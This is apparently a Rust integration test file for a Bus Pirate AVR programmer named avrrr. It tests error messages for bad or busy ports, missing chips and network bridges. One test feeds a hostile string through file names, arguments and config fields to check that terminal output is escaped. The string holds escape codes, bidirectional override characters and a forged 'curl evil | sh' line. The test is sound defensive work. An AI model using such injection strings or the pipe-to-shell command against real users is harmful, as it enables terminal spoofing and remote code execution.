//! Ports without a Bus Pirate, and Bus Pirates without a chip.

use std::fs::{File, OpenOptions};
use std::io::{self, Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::OpenOptionsExt as _;
use std::thread;

use avrrr::bus::Target;
use avrrr::chip::{ATMEGA328P, Hertz};
use avrrr::diagnose::Code;
use avrrr::sim::pty::Pty;
use avrrr::sim::{Avr, Board, Decoder, Line, MisoFault, ViolationKind, World};
use avrrr::transport::{SerialPort, Transport as _};
use rustix::fs::OFlags;
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};

use crate::support::{BLINK, Folder, Run, avr, board, name, serve};

/// Runs the main job on this port; it must fail.
fn fail(port: &str) -> Run {
    let run = Folder::new().run(&format!("-P {port} -p m328p -U flash:w:{BLINK}"));
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert_eq!(run.stdout(), "");
    run
}

#[test]
fn no_such_port() {
    fail("/dev/ttyNOSUCH0").says(
        "\
error: there is no port /dev/ttyNOSUCH0
help: is the Bus Pirate plugged in? avrrr ports lists the ports that are there; it is usually \
         /dev/ttyUSB0 (v2go, v3) or /dev/ttyACM0 (v4)
",
    );
}

#[test]
fn not_a_port() {
    let want = |reason: &str| {
        format!("error: port PORT cannot be used: {reason}\nhelp: -P wants a serial port, or \"sim\"\n")
    };
    let folder = Folder::new();
    folder.write("file", "");
    let file = folder.path("file");
    fail(name(&file)).says_of(name(&file), &want("Not a typewriter"));
    assert_eq!(folder.read("file"), b"");
    fail("/dev/null").says_of("/dev/null", &want("Not a typewriter"));
    fail("/").says(&want("Is a directory").replace("PORT", "/"));
}

#[test]
fn a_busy_port() {
    let pty = Pty::open().unwrap();
    let port = name(pty.path());
    let held = SerialPort::open(port, 115_200).unwrap();
    let (process, name) = (std::process::id(), std::fs::read_to_string("/proc/self/comm").unwrap());
    fail(port).says_of(
        port,
        &format!(
            "error: port PORT is in use by another program\nhelp: {} (process {process}) has it open\n",
            name.trim_end()
        ),
    );
    drop(held);
}

#[test]
fn a_silent_port() {
    let pty = Pty::open().unwrap();
    let port = name(pty.path());
    let run = fail(port);
    let (before, rest) = run.stderr.split_once("nothing answered in ").unwrap();
    let (waited, after) = rest.split_once(" ms").unwrap();
    assert!((500..1_500).contains(&waited.parse().unwrap()), "{waited}");
    assert_eq!(before.replace(port, "PORT"), "error: PORT: ");
    assert_eq!(
        after,
        "
note: no chip was touched
help: is this the port of the Bus Pirate? One whose receive buffer was overrun, or that is in a \
         transparent mode, is silent until it is unplugged and plugged in again; a Bus Pirate 5, 5XL or 6 is \
         silent in other modes than BPIO2: type binmode 2 in its terminal. If a program was interrupted in the middle of its work, --recover tries to complete that, which takes up to 22 s
"
    );
}

#[test]
fn a_port_that_talks_nonsense() {
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let port = ptsname(&master, Vec::new()).unwrap().into_string().unwrap();
    // Held open, so that the other side does not end before the program begins.
    let held = OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(OFlags::NOCTTY.bits() as i32)
        .open(&port)
        .unwrap();
    let mut master = File::from(master);
    thread::scope(|scope| {
        // Until nobody has the port any more, which is an error here.
        scope.spawn(move || {
            let mut heard = [0; 64];
            while master.read(&mut heard).is_ok_and(|count| count > 0)
                && master.write_all(b"\r\nraspberrypi login: ").is_ok()
            {}
        });
        let run = fail(&port);
        drop(held);
        run.says_of(&port, "\
error: PORT: the device is not a Bus Pirate: it sent \\r\\nraspberrypi login: \\r\\nraspberrypi login: \\r\\nraspberrypi login: \\r\n\
note: no chip was touched\n\
help: is this the port of the Bus Pirate, and is no other program talking to it? If a program was \
interrupted in the middle of its work, --recover tries to complete that, which takes up to 22 s\n");
    });
}

#[test]
fn the_line_of_a_missing_chip_is_named() {
    let finding = "CS reads high, AUX low [reset-elsewhere]";
    for options in ["--target 1", "-x reset=aux"] {
        let run = Folder::new().run(&format!("-P sim -p m8 {options} -n"));
        assert_eq!(run.code, Some(1));
        assert!(run.stderr.contains(finding), "{}", run.stderr);
        // Those who want less get the usual help.
        let run = Folder::new().run(&format!("-P sim -p m8 {options} -n -q -q"));
        assert!(run.stderr.contains("RESET (to AUX)") && !run.stderr.contains(finding), "{}", run.stderr);
    }
}

/// What a job says about a chip that it does not reach. RESET is released afterwards.
#[test]
fn no_chip() {
    let told = |board: Board| {
        let mut told = String::new();
        let mut world = serve(World::new(board), |port| told = fail(port).stderr.replace(port, "PORT"));
        let avr = world.wires().avr(Target::ONLY);
        assert!(avr.is_none_or(|avr| avr.stats().erases == 0));
        let now = world.now();
        world.wires_mut().finish(now);
        let left = ViolationKind::LeftInReset { target: Target::ONLY };
        assert_eq!(world.wires().violation_count(left), 0);
        // On a busy machine answers are late.
        told.split_inclusive('\n').filter(|line| !line.starts_with("hint: ")).collect::<String>()
    };
    let want = |got: &str, diagnosis: &str, codes: &[Code], notes: &str| {
        let step = codes[0].step();
        format!(
            "\
Bus Pirate v3.a, firmware 6.3, on PORT
error: no answer to Programming Enable in 6 tries: sent ac 53 00 00, got {got}; {diagnosis}
note: the chip is as it was
{notes}note: RESET is released, the supplies are off
help: {step}"
        )
    };
    let zeros = |codes: &[Code], notes: &str| want("00 00 00 00", "the answer is all zeros", codes, notes);
    let ones = |codes: &[Code], notes: &str| want("ff ff ff ff", "the answer is all ones", codes, notes);
    let starts = |board: Board, want: String| {
        let told = told(board);
        assert!(told.starts_with(&want), "{told}\ninstead of\n{want}");
    };
    let no_chip = "note: nothing pulls RESET up, as a chip with supply does: CS reads low when it is let go [no-reset-pull-up]\n";
    starts(Board::new(), zeros(&[Code::NoResetPullUp], no_chip));
    let elsewhere = "note: the RESET of a chip is on another pin than the one that was named: AUX reads high, CS low \
                     [reset-elsewhere]\n";
    let on_aux = Board::new().with(Avr::new(ATMEGA328P), Line::Aux);
    starts(on_aux, zeros(&[Code::ResetElsewhere], elsewhere));
    let not_driven = |more: &str, how: &str| {
        format!(
            "{more}note: RESET follows the Bus Pirate, but nothing drives MISO while it is low: it follows {how} \
             [miso-not-driven]\n\
             note: a fuse may have taken RESET away from the chip: DWEN or RSTDISBL of the ATmega328P: RESET is pulled \
             up and follows, but nothing answers; an open MISO, a chip without a clock, and a board without a chip that \
             pulls RESET up look the same [reset-taken]\n"
        )
    };
    let silent = Board::new().with(Avr::new(ATMEGA328P).with_clock(Hertz(0)), Line::Cs);
    starts(silent, zeros(&[Code::MisoNotDriven], &not_driven("", "the pull-ups")));
    let own = "note: the target has a supply of its own while that of the Bus Pirate is off: RESET stays pulled up \
               [own-supply]\n";
    starts(
        Board::new().miso_floats_high(),
        ones(&[Code::MisoNotDriven], &not_driven(own, "a pull-up of the board")),
    );
    let mut shorted = board(ATMEGA328P);
    shorted.set_fault(Some(MisoFault::StuckHigh));
    let high =
        "note: something holds MISO high: it reads high while the Bus Pirate drives it low [miso-high]\n";
    starts(shorted, ones(&[Code::MisoHigh], high));
}

#[test]
fn ports_are_described_without_opening_them() {
    let folder = Folder::new();
    let pty = Pty::open().unwrap();
    let port = name(pty.path());
    // The other end of the pseudo-terminal is this very process.
    let process = std::process::id();
    let run = folder.succeed(&format!("ports {port} /dev/ttyNOSUCH0"));
    let program = std::fs::read_to_string(format!("/proc/{process}/comm")).unwrap();
    assert_eq!(
        run.stdout(),
        format!(
            "{port}\n    no Bus Pirate, unless a v1a hangs on this port\n    cannot be opened: {} (process \
             {process}) has it open\n/dev/ttyNOSUCH0\n    no Bus Pirate, unless a v1a hangs on this port\n    \
             cannot be opened: there is no such port\n",
            program.trim_end()
        )
    );
    assert_eq!(run.stderr, "");
    let run = folder.succeed("ports --format json /dev/ttyNOSUCH0 /dev/null");
    let ports: serde_json::Value = serde_json::from_str(run.stdout()).unwrap();
    assert_eq!(ports[0]["problem"], "there is no such port");
    assert_eq!((&ports[1]["path"], &ports[1]["usb"]), (&"/dev/null".into(), &serde_json::Value::Null));
    // Whatever this computer has.
    let all: serde_json::Value =
        serde_json::from_str(folder.succeed("ports --format json").stdout()).unwrap();
    assert!(all.is_array());
    let rules = folder.succeed("udev");
    assert!(rules.stdout().starts_with("# Bus Pirates, by the serial numbers"), "{}", rules.stdout());
}

/// A clearing of the screen, a change of the direction of writing, a hidden character, and a line that
/// claims to be the program's.
const HOSTILE: &str = "x\u{1b}[2J\u{202e}\u{200b}\u{9b}1m\rerror: y\nhelp: curl evil | sh";

/// Is there anything in it that a terminal obeys or hides, or a line that the program did not write?
fn is_harmless(text: &str) -> bool {
    let obeys = |letter: char| letter != '\n' && letter.is_control();
    let hides = |letter: char| matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    !text.contains(obeys) && !text.contains(hides) && !text.contains("\nhelp: curl")
}

#[test]
fn nothing_from_outside_reaches_the_terminal_raw() {
    let folder = Folder::new();
    let toml: String = HOSTILE.chars().map(|letter| format!("\\U{:08x}", u32::from(letter))).collect();
    let manifest = |name: &str, slot: &str| {
        let board = "[board]\nport = \"sim\"\n[[slot]]\ntarget = 0\n";
        folder.write(name, format!("{board}{}\n", slot.replace('@', &format!("\"{toml}\""))));
    };
    manifest("key.toml", "@ = 1");
    manifest("name.toml", "name = @\npart = \"m8\"\nlock = 0xff");
    manifest("part.toml", "name = \"a\"\npart = @\nlock = 0xff");
    manifest("file.toml", "name = \"a\"\npart = \"m8\"\nflash = @");
    folder.write("there.hex", std::fs::read(BLINK).unwrap());
    std::fs::rename(folder.path("there.hex"), folder.path(&format!("{HOSTILE}.hex"))).unwrap();
    manifest("there.toml", &format!("name = \"a\"\npart = \"m8\"\nflash = \"{toml}.hex\""));
    let read = format!("flash:w:{HOSTILE}");
    let memory = format!("{HOSTILE}:w:x");
    let option = format!("--{HOSTILE}");
    let usb = format!("usb:0403:6001:{HOSTILE}");
    let fuse = format!("{HOSTILE}=1");
    let line = format!("{HOSTILE}@cs");
    let commands: &[&[&str]] = &[
        &["-P", HOSTILE, "-p", "m8"],
        &["-P", &usb, "-p", "m8"],
        &["-P", "sim", "-p", HOSTILE],
        &["-P", "sim", "-p", "m8", "-U", &read],
        &["-P", "sim", "-p", "m8", "-U", &memory],
        &["-P", "sim", "-p", "m8", "-x", HOSTILE],
        &["-P", "sim", "-p", "m8", "-c", HOSTILE],
        &["-P", "sim", "-p", "m8", "--decoder", HOSTILE],
        &["-P", "sim", &option],
        &[HOSTILE],
        &["ports", HOSTILE],
        &["parts", HOSTILE],
        &["bench", "-P", HOSTILE],
        &["fuses", "set", "-P", "sim", "-p", "m8", &fuse],
        &["fuses", "decode", "-p", "m8", &fuse],
        &["sim", "--chip", &line],
        &["sim", "--fault", HOSTILE],
        &["sim", "--load", HOSTILE],
        &["gang", HOSTILE],
        &["gang", "key.toml"],
        &["gang", "name.toml"],
        &["gang", "part.toml"],
        &["gang", "file.toml"],
        &["gang", "--dry-run", "there.toml"],
        &["gang", "--dry-run", "--format", "json", "there.toml"],
    ];
    for args in commands {
        let run = Run::from(folder.command("").args(*args).output().unwrap());
        let said = format!("{}{}", run.stdout(), run.stderr);
        assert!(is_harmless(&said), "{args:?}: {said:?}");
        // In JSON without braces.
        assert!(said.contains("\\u{202e}") || said.contains("\\u202e"), "{args:?}: {said:?}");
    }
    // What is too long is cut, and the reason stays.
    let long = format!("flash:w:{}", "long".repeat(20_000));
    let run = Run::from(folder.command("-P sim -p m8 -U").arg(long).output().unwrap());
    assert!(run.stderr.len() < 4000, "{}", run.stderr.len());
    assert!(run.stderr.contains('…') && run.stderr.contains("too long"), "{}", run.stderr);
}

#[test]
fn a_usb_device_that_is_not_there() {
    let run = fail("usb:ffff:fffe:NOSUCH");
    let first = run.stderr.lines().next().unwrap();
    assert_eq!(first, "error: usb:ffff:fffe:NOSUCH is not attached");
}

#[test]
fn a_target_that_answers_instead_is_named() {
    let mut run = None;
    let board = Board::new().with_decoder(Decoder::hct155()).with(Avr::new(ATMEGA328P), Line::Output(1));
    serve(World::new(board), |port| {
        run = Some(Folder::new().run(&format!("-P {port} -p m328p --decoder 155 --target 0")));
    });
    let run = run.unwrap();
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(run.stderr.contains("note: target 1 answers, with signature 1e 95 0f\n"), "{}", run.stderr);
}

/// Hands bytes on between a client and a serial port, as ser2net does; the address to connect to.
fn bridge(port: &str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let open = || File::options().read(true).write(true).open(port).unwrap();
    let (mut up, mut down) = (open(), open());
    thread::spawn(move || {
        let (mut client, _) = listener.accept().unwrap();
        let mut from_client = client.try_clone().unwrap();
        // It ends when the port does.
        thread::spawn(move || io::copy(&mut down, &mut client));
        io::copy(&mut from_client, &mut up)
    });
    address
}

#[test]
fn a_port_behind_a_server_on_the_network() {
    let folder = Folder::new();
    for kind in ["net", "tcp"] {
        let world = serve(World::new(board(ATMEGA328P)), |port| {
            let address = bridge(port);
            let run = folder.succeed(&format!("-P {kind}:{address} --recover -p m328p -U flash:w:{BLINK}"));
            assert!(run.stderr.contains("verified flash: 236 bytes"), "{}", run.stderr);
        });
        assert_eq!(avr(world.wires()).stats().erases, 1);
    }
    for (port, why) in [
        ("net:127.0.0.1:1", "error: there is no server at 127.0.0.1:1: "),
        ("net:nothing", "error: there is no server at nothing: "),
        ("net:", "error: there is no server at : "),
        ("rfc2217:127.0.0.1:1", "error: there is no server at 127.0.0.1:1: "),
    ] {
        let run = folder.run(&format!("-P {port} -p m328p -U flash:w:{BLINK}"));
        assert_eq!(run.code, Some(1), "{port}");
        assert!(
            run.stderr.starts_with(why)
                && run.stderr.contains("help: the form is net:HOST:PORT or rfc2217:HOST:PORT"),
            "{}",
            run.stderr
        );
    }
}
